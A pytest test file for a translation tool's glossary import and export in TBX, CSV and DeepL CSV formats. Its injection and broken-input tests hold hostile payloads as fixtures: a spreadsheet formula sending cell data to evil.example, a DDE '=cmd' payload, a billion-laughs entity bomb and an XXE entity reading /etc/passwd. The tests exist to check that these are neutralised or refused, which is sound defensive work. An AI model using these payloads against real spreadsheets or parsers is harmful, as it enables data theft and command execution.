"""Glossary interchange: TBX and CSV round trips, DeepL CSV, hostile and broken input."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from tests.conftest import ROOT
from transpipe.terms.csv_format import from_csv, to_csv, to_deepl_csv
from transpipe.terms.exchange import languages_of, slug
from transpipe.terms.glossary import Concept, GlossaryError
from transpipe.terms.glossary_io import import_glossary, load_glossaries, read_interchange
from transpipe.terms.tbx import from_tbx, to_tbx

SAMPLE = ROOT / "tests" / "data" / "glossary" / "sample.gloss"
# The sample always, plus every glossary the project ships (none is fine, but
# each one that exists is round-tripped: the ids show which were).
GLOSSARIES = [SAMPLE, *sorted((ROOT / "glossary").glob("*.gloss"))]


def comparable(concepts: list[Concept]) -> list[Concept]:
    """Concepts with where they were read from blanked out, for comparing content."""
    return [replace(c, path="", line=0) for c in concepts]


def load(path: Path) -> list[Concept]:
    return list(load_glossaries([path]).concepts)


@pytest.fixture(scope="module")
def sample() -> list[Concept]:
    concepts = load(SAMPLE)
    assert len(concepts) >= 8
    return concepts


def by_id(concepts: list[Concept], concept_id: str) -> Concept:
    return next(c for c in concepts if c.id == concept_id)


# -- round trips --------------------------------------------------------------------


@pytest.mark.parametrize("path", GLOSSARIES, ids=lambda p: p.name)
def test_tbx_round_trip_is_exact(path: Path) -> None:
    concepts = load(path)
    text = to_tbx(concepts)
    back = from_tbx(text, "out.tbx")
    assert comparable(back) == comparable(concepts)
    assert all(c.path == "out.tbx" and c.line > 0 for c in back)
    assert to_tbx(back) == text


@pytest.mark.parametrize("path", GLOSSARIES, ids=lambda p: p.name)
def test_csv_round_trip_is_exact(path: Path) -> None:
    concepts = load(path)
    languages = languages_of(concepts)
    back = from_csv(to_csv(concepts, languages), "out.csv")
    # Targets come back in column order; compare each concept's targets in that order.
    expected = [
        replace(c, targets=tuple(sorted(c.targets, key=lambda t: languages.index(t[0]))))
        for c in concepts
    ]
    assert comparable(back) == comparable(expected)


def test_sample_round_trips_keep_every_field(sample: list[Concept]) -> None:
    # The sample lists its languages in one order, so even target order survives CSV.
    assert comparable(from_csv(to_csv(sample, languages_of(sample)), "x")) == comparable(sample)
    assert any(c.dnt for c in sample) and any(c.case_sensitive for c in sample)
    assert any(c.foreign_ok for c in sample) and any(c.abbreviations for c in sample)
    assert {"uk", "ru"} <= set(languages_of(sample))


# -- TBX layout -------------------------------------------------------------------


def test_tbx_layout(sample: list[Concept]) -> None:
    text = to_tbx(sample)
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<martif type="TBX-Basic"')
    assert text == to_tbx(sample)
    assert '<termEntry id="armed-forces-of-ukraine">' in text
    assert '<termEntry id="_155mm-shell">' in text  # an XML ID cannot start with a digit
    assert "<note>transpipe-flags: dnt, case-sensitive</note>" in text
    assert '<termNote type="partOfSpeech">properNoun</termNote>' in text
    assert '<termNote type="partOfSpeech">other</termNote>' in text  # phrase
    assert (
        "<term>AFU</term>\n"
        '            <termNote type="termType">abbreviation</termNote>\n'
        '            <termNote type="administrativeStatus">admittedTerm-admn-sts</termNote>'
    ) in text
    assert (
        "<term>ЗСУ</term>\n"
        '            <termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote>'
    ) in text
    assert '<term>règles d\'engagement, dites "ROE" &amp; "RdE"</term>' in text
    assert '<langSet xml:lang="uk">' in text


def test_tbx3_layout_and_foreign_conventions_are_read() -> None:
    text = """<?xml version="1.0" encoding="UTF-16"?>
<!DOCTYPE tbx SYSTEM "http://example.invalid/never-fetched.dtd">
<tbx xmlns="urn:iso:std:iso:30042:ed-2" type="TBX-Basic" style="dca" xml:lang="en-US">
  <tbxHeader><fileDesc><sourceDesc><p>x</p></sourceDesc></fileDesc></tbxHeader>
  <text><body>
    <conceptEntry id="C-17">
      <note>Cargo aircraft</note>
      <langSec xml:lang="en-US">
        <descrip type="definition">A military
           transport aircraft.</descrip>
        <termSec><term>C-17</term>
          <termNote type="termType">acronym</termNote>
          <termNote type="administrativeStatus">admittedTerm-admn-sts</termNote></termSec>
        <termSec><term>Globemaster III</term>
          <termNote type="partOfSpeech">properNoun</termNote>
          <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></termSec>
        <termSec><term>C17</term>
          <termNote type="administrativeStatus">supersededTerm-admn-sts</termNote></termSec>
      </langSec>
      <langSec xml:lang="DE-de">
        <termSec><term>Transportflugzeug</term>
          <termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote></termSec>
        <termSec><term>Frachtflugzeug C-17</term></termSec>
        <termSec><term>C-17 Globemaster</term>
          <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></termSec>
      </langSec>
    </conceptEntry>
  </body></text>
</tbx>
"""
    [concept] = from_tbx(text, "v3.tbx")
    assert concept == Concept(
        id="globemaster-iii",  # "C-17" is no valid id, so the term's slug is used
        term="Globemaster III",
        abbreviations=("C-17",),
        deprecated=("C17",),
        pos="proper-noun",
        note="A military transport aircraft.",
        targets=(("de-DE", ("C-17 Globemaster", "Frachtflugzeug C-17")),),
        path="v3.tbx",
        line=6,
    )


def test_tbx_martif_with_doctype_and_ntig() -> None:
    text = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE martif SYSTEM "TBXBasiccoreStructV02.dtd">
<martif type="TBX-Basic" xml:lang="en">
<text><body>
<termEntry id="_9k720">
  <descrip type="definition">A Russian short-range ballistic missile system.</descrip>
  <langSet xml:lang="en"><ntig><termGrp><term>Iskander</term>
    <termNote type="partOfSpeech">noun</termNote></termGrp></ntig></langSet>
  <langSet xml:lang="uk"><tig><term>Іскандер</term></tig></langSet>
</termEntry>
<termEntry>
  <langSet xml:lang="en"><tig><term>Iskander</term></tig></langSet>
</termEntry>
</body></text></martif>"""
    first, second = from_tbx(text, "m.tbx")
    assert (first.id, first.term, first.pos, first.line) == ("9k720", "Iskander", "noun", 5)
    assert first.targets == (("uk", ("Іскандер",)),)
    assert (second.id, second.note) == ("iskander", "")


# -- DeepL ----------------------------------------------------------------------------


def test_deepl_export_for_one_concept(sample: list[Concept]) -> None:
    afu = [by_id(sample, "armed-forces-of-ukraine")]
    assert to_deepl_csv(afu, "uk") == (
        "Armed Forces of Ukraine,Збройні сили України\n"
        "AFU,Збройні сили України\n"
        "Ukrainian Armed Forces,Збройні сили України\n"
        "Ukraine's armed forces,Збройні сили України\n"
    )  # deprecated forms (ZSU, ЗСУ, ...) are not exported
    assert to_deepl_csv(afu, "es") == ""  # no equivalent, no rows


def test_deepl_export_dnt_quoting_and_duplicates(sample: list[Concept]) -> None:
    assert to_deepl_csv([by_id(sample, "himars")], "de") == (
        "HIMARS,HIMARS\nHigh Mobility Artillery Rocket System,HIMARS\n"
    )
    roe = by_id(sample, "rules-of-engagement")
    assert to_deepl_csv([roe, roe], "fr") == (
        "rules of engagement,règles d'engagement\nROE,règles d'engagement\n"
    )


def test_deepl_import_groups_rows_by_target() -> None:
    text = (
        "Ministry of Defence,Міністерство оборони\r\n"
        '"Defence Ministry",Міністерство оборони\r\n'
        "MoD,Міністерство оборони\r\n"
        "\r\n"
        '"rules of engagement, ROE",правила застосування сили\r\n'
        "Ministry of Defence (UK),Міністерство оборони Великої Британії\r\n"
    )
    concepts = from_csv(text, "deepl.csv", deepl_target="uk")
    assert comparable(concepts) == [
        Concept(
            id="ministry-of-defence",
            term="Ministry of Defence",
            abbreviations=("MoD",),
            variants=("Defence Ministry",),
            targets=(("uk", ("Міністерство оборони",)),),
        ),
        Concept(
            id="rules-of-engagement-roe",
            term="rules of engagement, ROE",
            targets=(("uk", ("правила застосування сили",)),),
        ),
        Concept(
            id="ministry-of-defence-uk",
            term="Ministry of Defence (UK)",
            targets=(("uk", ("Міністерство оборони Великої Британії",)),),
        ),
    ]
    assert [c.line for c in concepts] == [1, 5, 6]


def test_deepl_import_round_trips_and_needs_a_target(sample: list[Concept]) -> None:
    exported = to_deepl_csv(sample, "ru")
    back = from_csv(exported, "ru.csv", deepl_target="ru")
    assert to_deepl_csv(back, "ru") == exported
    with pytest.raises(GlossaryError, match="names no target language") as info:
        from_csv(exported, "ru.csv")
    assert info.value.line == 1
    with_columns = "NATO,НАТО,EN,RU\nAFU,ЗСУ,EN,RU\n"
    assert [c.targets for c in from_csv(with_columns, "x.csv")] == [
        (("ru", ("НАТО",)),),
        (("ru", ("ЗСУ",)),),
    ]


def test_deepl_import_refuses_a_repeated_source() -> None:
    with pytest.raises(GlossaryError, match="already given on line 1") as info:
        from_csv("AFU,ЗСУ\nAFU,ВСУ\n", "d.csv", deepl_target="uk")
    assert str(info.value).startswith("d.csv:2: ")


# -- CSV injection ----------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def hostile() -> list[Concept]:
    """Concepts whose fields a spreadsheet would run as formulas, and values that only look so."""
    return [
        Concept(
            id="formula",
            term=FORMULA,
            abbreviations=("@SUM(1+1)",),
            variants=("+1", "-23", "'=quoted"),
            deprecated=("=1+1",),
            note="-2+3 is a note",
            targets=(("de", ("=cmd|' /C calc'!A0", "-23")), ("uk", ("+380",))),
        ),
        Concept(id="plain", term="'quoted' term", targets=(("de", ("'s Gravenhage",)),)),
    ]


def _cells(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_csv_export_neutralises_formula_cells() -> None:
    text = to_csv(hostile(), ["de", "uk"])
    cells = _cells(text)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells and "'-2+3 is a note" in cells
    assert "'+380" in cells and "'+1 | -23 | '=quoted" in cells  # only a cell's start counts
    assert "'quoted' term" in cells  # a quote before a harmless character is left alone


def test_deepl_export_neutralises_formula_cells() -> None:
    text = to_deepl_csv(hostile(), "de")
    assert text == (
        f"\"'{FORMULA.replace(chr(34), chr(34) * 2)}\",'=cmd|' /C calc'!A0\n"
        "'@SUM(1+1),'=cmd|' /C calc'!A0\n"
        "'+1,'=cmd|' /C calc'!A0\n"
        "'-23,'=cmd|' /C calc'!A0\n"
        "''=quoted,'=cmd|' /C calc'!A0\n"
        "'quoted' term,'s Gravenhage\n"
    )
    assert not [c for c in _cells(text) if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_neutralised_cells_round_trip_exactly() -> None:
    concepts = hostile()
    back = from_csv(to_csv(concepts, ["de", "uk"]), "out.csv")
    assert comparable(back) == comparable(concepts)
    deepl = to_deepl_csv(concepts, "uk")
    assert [c.term for c in from_csv(deepl, "d.csv", deepl_target="uk")] == [FORMULA]
    assert to_deepl_csv(from_csv(deepl, "d.csv", deepl_target="uk"), "uk") == deepl


def test_csv_import_takes_off_only_a_neutralising_quote() -> None:
    text = "id,term,variant,de\n,'-23,'+1 | 'x,'=Summe\n"
    (concept,) = from_csv(text, "in.csv")
    assert (concept.term, concept.variants, concept.targets) == (
        "-23",
        ("+1", "'x"),
        (("de", ("=Summe",)),),
    )


# -- broken and hostile input ---------------------------------------------------------


def test_malformed_tbx_names_the_line() -> None:
    text = '<?xml version="1.0"?>\n<martif>\n<text><body>\n<termEntry id="a">\n</body></text>'
    with pytest.raises(GlossaryError, match="not well-formed XML") as info:
        from_tbx(text, "broken.tbx")
    assert info.value.path == "broken.tbx"
    assert info.value.line == 5
    assert str(info.value).startswith("broken.tbx:5: ")


def test_entity_expansion_bomb_is_refused() -> None:
    laughs = "".join(f'  <!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">\n' for i in range(1, 10))
    text = (
        '<?xml version="1.0"?>\n<!DOCTYPE martif [\n  <!ENTITY lol0 "lol">\n'
        + laughs
        + "]>\n<martif><text><body><termEntry><langSet xml:lang='en'><tig>"
        "<term>&lol9;</term></tig></langSet></termEntry></body></text></martif>\n"
    )
    with pytest.raises(GlossaryError, match="refused: the file declares entities") as info:
        from_tbx(text, "bomb.tbx")
    assert info.value.line == 3


def test_external_entity_is_refused() -> None:
    text = (
        '<?xml version="1.0"?>\n<!DOCTYPE martif [\n'
        '<!ENTITY secret SYSTEM "file:///etc/passwd">\n]>\n'
        "<martif><text><body><termEntry><langSet xml:lang='en'><tig>"
        "<term>&secret;</term></tig></langSet></termEntry></body></text></martif>\n"
    )
    with pytest.raises(GlossaryError, match="refused"):
        from_tbx(text, "xxe.tbx")


@pytest.mark.parametrize(
    ("text", "message", "line"),
    [
        ("<glossary/>", "not a TBX file", 1),
        (
            (
                '<martif>\n<termEntry id="a"><note>transpipe-flags: dnt, loud</note>\n'
                '<langSet xml:lang="en"><tig><term>A</term></tig></langSet></termEntry></martif>'
            ),
            "unknown flag 'loud'",
            2,
        ),
        (
            (
                '<martif>\n<termEntry id="a"><langSet xml:lang="en"><tig><term>A</term></tig>'
                '</langSet></termEntry>\n<termEntry id="a"><langSet xml:lang="en"><tig><term>B'
                "</term></tig></langSet></termEntry></martif>"
            ),
            "already used on line 2",
            3,
        ),
        (
            (
                '<martif>\n<termEntry id="a">\n<langSet xml:lang="de"><tig><term>A</term></tig>'
                "</langSet></termEntry></martif>"
            ),
            "has no usable en term",
            2,
        ),
        (
            (
                '<martif>\n<termEntry id="a"><langSet xml:lang="en"><tig>\n<term>A</term>'
                '<termNote type="partOfSpeech">interjection</termNote></tig></langSet>'
                "</termEntry></martif>"
            ),
            "partOfSpeech 'interjection'",
            3,
        ),
    ],
    ids=["root", "flag", "duplicate-id", "no-source-term", "pos"],
)
def test_bad_tbx_content(text: str, message: str, line: int) -> None:
    with pytest.raises(GlossaryError, match=message) as info:
        from_tbx(text, "bad.tbx")
    assert info.value.line == line


def test_csv_wrong_column_count_names_the_line() -> None:
    text = (
        "id,term,abbr,variant,deprecated,pos,flags,note,de\n"
        "nato,NATO,,,,proper-noun,dnt,The Alliance.,NATO\n"
        "\n"
        'mod,Ministry of Defence,MoD,,,noun,,"A note on\ntwo lines",Verteidigungsministerium\n'
        "afu,Armed Forces of Ukraine,AFU,,,noun,,Streitkräfte der Ukraine\n"
    )
    with pytest.raises(GlossaryError, match="expected 9 columns as in the header, got 8") as info:
        from_csv(text, "bad.csv")
    assert str(info.value).startswith("bad.csv:6: ")


@pytest.mark.parametrize(
    ("text", "message", "line"),
    [
        ("id,term,colour\n", "unknown column 'colour'", 1),
        ("id,term,de,de\n", "column 'de' appears twice", 1),
        ("id,term,flags\n\nx,X,dnt\ny,Y,shiny\n", "unknown flag 'shiny'", 4),
        ("id,term,pos\nx,X,thing\n", "pos 'thing' is not one of", 2),
        ("id,term\nBad Id,X\n", "must be lower-case", 2),
        ("id,term\nx,\n", "has no term", 2),
        ("a,b,c,d,e,f\n", "neither a glossary CSV", 1),
        ('id,term\nx,"X\n', "bad CSV", 2),
    ],
    ids=["column", "twice", "flag", "pos", "id", "term", "shape", "quote"],
)
def test_bad_csv_content(text: str, message: str, line: int) -> None:
    with pytest.raises(GlossaryError, match=message) as info:
        from_csv(text, "bad.csv")
    assert info.value.line == line


def test_csv_fills_missing_ids_and_refuses_lost_languages(sample: list[Concept]) -> None:
    concepts = from_csv("id,term,de\n,Air Force,Luftwaffe\nair-force,x,\n,Air Force,\n", "a.csv")
    assert [c.id for c in concepts] == ["air-force-2", "air-force", "air-force-3"]
    with pytest.raises(GlossaryError, match="has uk, ru equivalents but the CSV has no such"):
        to_csv(sample, ["de", "fr", "pl"])


# -- files ------------------------------------------------------------------------------


def test_read_interchange_dispatches_on_suffix(tmp_path: Path, sample: list[Concept]) -> None:
    tbx = tmp_path / "terms.tbx"
    tbx.write_bytes(b"\xef\xbb\xbf" + to_tbx(sample).encode("utf-8"))
    assert comparable(read_interchange(tbx)) == comparable(sample)
    assert comparable(list(load_glossaries([tbx]).concepts)) == comparable(sample)
    utf16 = tmp_path / "multiterm.tbx"
    utf16.write_bytes(to_tbx(sample).replace("UTF-8", "UTF-16").encode("utf-16"))
    assert comparable(read_interchange(utf16)) == comparable(sample)
    full = tmp_path / "terms.csv"
    full.write_text(to_csv(sample, languages_of(sample)), encoding="utf-8")
    assert comparable(read_interchange(full)) == comparable(sample)
    deepl = tmp_path / "deepl-en-uk.csv"
    deepl.write_text(to_deepl_csv(sample, "uk"), encoding="utf-8")
    assert {c.languages for c in read_interchange(deepl)} == {("uk",)}
    assert {c.languages for c in read_interchange(deepl, deepl_target="ru")} == {("ru",)}


def test_read_interchange_errors(tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_bytes(b"id,term\nok,OK\nx,\xff\n")
    with pytest.raises(GlossaryError, match="not valid UTF-8") as info:
        read_interchange(bad)
    assert (info.value.path, info.value.line) == (str(bad), 3)
    with pytest.raises(GlossaryError, match="cannot read"):
        read_interchange(tmp_path / "missing.tbx")
    with pytest.raises(GlossaryError, match="expected a .tbx or .csv"):
        read_interchange(tmp_path / "terms.xlsx")
    nameless = tmp_path / "glossary.csv"
    nameless.write_text("AFU,ЗСУ\n", encoding="utf-8")
    with pytest.raises(GlossaryError, match="names no target language"):
        read_interchange(nameless)


def test_tbx_export_refuses_what_xml_cannot_carry() -> None:
    concept = Concept(id="x", term="bad\x07bell", path="g.gloss", line=7)
    with pytest.raises(GlossaryError, match="control character") as info:
        to_tbx([concept])
    assert str(info.value).startswith("g.gloss:7: ")


def test_slug() -> None:
    assert slug("Armed Forces of Ukraine") == "armed-forces-of-ukraine"
    assert slug("Збройні сили України") == "zbroini-syly-ukrainy"
    assert slug("Straße der Einheit") == "strasse-der-einheit"
    assert slug("«»") == "concept"


def test_each_refused_glossary_file_is_named_with_what_to_do(tmp_path: Path) -> None:
    def refusal(path: Path) -> str:
        with pytest.raises(GlossaryError) as info:
            read_interchange(path)
        assert info.value.path == str(path)
        return str(info.value)

    assert (
        refusal(tmp_path / "terms.xlsx")
        == f"{tmp_path / 'terms.xlsx'}: expected a .tbx or .csv glossary"
    )
    (tmp_path / "folder.tbx").mkdir()
    assert refusal(tmp_path / "folder.tbx").endswith(
        ": this is a folder; give the glossary as a file"
    )
    latin1 = tmp_path / "latin1.csv"
    latin1.write_bytes("id,term\nx,Gdańsk\n".encode() + b"y,Caf\xe9\n")
    assert refusal(latin1).endswith(":3: not valid UTF-8; save the glossary as UTF-8")
    broken16 = tmp_path / "broken16.tbx"
    broken16.write_bytes(b"\xff\xfe" + "<martif>".encode("utf-16-le") + b"\x00\xd8")
    assert refusal(broken16) == f"{broken16}: not valid UTF-16"
    unclosed = tmp_path / "unclosed.tbx"
    unclosed.write_text("<martif><text><body><termEntry>", encoding="utf-8")
    assert refusal(unclosed) == f"{unclosed}:1: not well-formed XML: no element found"
    # a file named only by a language code is not a DeepL glossary named for it
    bare = tmp_path / "uk.csv"
    bare.write_text("AFU,ЗСУ\n", encoding="utf-8")
    assert "names no target language" in refusal(bare)


def test_a_big_endian_utf16_tbx_is_read(tmp_path: Path, sample: list[Concept]) -> None:
    path = tmp_path / "be.tbx"
    path.write_bytes(b"\xfe\xff" + to_tbx(sample).replace("UTF-8", "UTF-16").encode("utf-16-be"))
    assert comparable(read_interchange(path)) == comparable(sample)


def test_import_names_the_first_clash_and_the_file(tmp_path: Path) -> None:
    clashing = [
        Concept(id="afu", term="Armed Forces of Ukraine", abbreviations=("AFU",),
                targets=(("de", ("Streitkräfte der Ukraine",)),)),
        Concept(id="afu-2", term="Air Force Unit", abbreviations=("AFU",),
                targets=(("de", ("Luftwaffeneinheit",)),)),
    ]  # fmt: skip
    path = tmp_path / "clash.csv"
    path.write_text(to_csv(clashing, languages_of(clashing)), encoding="utf-8")
    with pytest.raises(GlossaryError) as info:
        import_glossary(path)
    assert info.value.path == str(path)
    assert info.value.message == (
        f"abbr 'AFU' already belongs to concept afu as its abbr 'AFU' ({path}:2) (concept afu-2)"
    )
    clean = tmp_path / "clean.csv"
    clean.write_text(to_csv(clashing[:1], languages_of(clashing[:1])), encoding="utf-8")
    assert import_glossary(clean).startswith("# Imported from clean.csv.\n\nid: afu\n")
